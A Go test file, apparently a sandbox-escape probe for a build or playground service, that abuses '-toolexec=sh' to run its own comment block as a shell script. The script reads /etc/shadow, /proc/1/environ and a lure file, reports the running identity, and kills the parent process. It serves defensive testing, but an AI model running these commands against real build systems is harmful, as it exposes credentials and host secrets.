// Has go run a script in place of its tools, which is this very file: it reads the host, and kills go as a proof.
// expect: compile signaled SIGKILL
// compile-arg: -toolexec=sh /work/main.go
/*
for path in /etc/shadow @LURE_FILE@ /proc/1/environ; do cat $path && echo ESCAPED $path; done >/proc/$PPID/fd/2
echo "the script ran as $(id)" >/proc/$PPID/fd/2
kill -KILL $PPID
*/

package main

func main() {}
